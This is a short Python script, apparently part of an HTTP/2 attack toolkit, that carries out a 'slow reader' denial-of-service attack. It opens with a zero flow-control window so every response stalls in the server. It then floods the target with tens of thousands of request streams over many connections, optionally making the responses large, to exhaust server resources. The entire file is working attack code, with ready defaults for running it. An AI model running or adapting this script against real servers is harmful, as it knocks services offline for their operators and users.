"""Slow readers: a window of zero, so that every answer waits in the server. With --token the answers are large matches."""
from attack_program import MATCH, program
from h2wire import DATA, END_HEADERS, END_STREAM, HEADERS, frame, message, request_block, settings

AT_ONCE = 10


def run(attack):
    body = message(bytes.fromhex(attack.options.request))
    headers = request_block(MATCH, token=attack.options.token)

    def one(number):
        return frame(HEADERS, END_HEADERS, number, headers) + frame(DATA, END_STREAM, number, body)
    attack.flood(lambda connection, _: b"".join(one(connection.stream()) for _ in range(AT_ONCE)), attack.options.count // AT_ONCE,
                 first=settings(INITIAL_WINDOW_SIZE=0))


if __name__ == "__main__":
    program(__doc__, run, count=20_000, connections=40, megabytes=20, request="")
